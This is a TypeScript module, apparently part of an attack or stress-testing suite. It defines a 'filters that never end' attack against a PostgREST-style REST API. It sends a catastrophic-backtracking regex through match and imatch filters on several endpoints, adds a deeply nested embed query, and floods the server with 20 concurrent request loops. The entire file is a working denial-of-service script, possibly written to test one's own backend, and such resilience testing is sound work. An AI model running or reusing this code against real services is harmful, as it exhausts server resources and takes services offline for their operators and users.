import { type Attack, floodServer, sendRequest } from '../attack.ts';

const endless = encodeURIComponent('^(.+)(.+)(.+)(.+)\\1\\2\\3\\4$');
const queries = (event: string) => [
  `faqs?answer=match.${endless}`,
  `faqs?or=(answer.imatch.${endless})`,
  `tier_plans?select=id,subscriptions(id)&subscriptions.plan_name=match.${endless}`,
  `rpc/get_event_guests?event_uuid=${event}&name=match.${endless}`,
  'tier_plans?select=id,subscriptions(tier_plans(subscriptions(tier_plans(id))))',
];

export const endlessFilterAttack: Attack = {
  name: 'filters that never end',
  threat: 'patterns in filters',
  run(target, signal) {
    const paths = queries(target.ownEvent);
    return floodServer(
      20,
      (index) => sendRequest(target, `/rest/v1/${paths[index % paths.length]}`, {}, signal),
      signal,
    );
  },
};
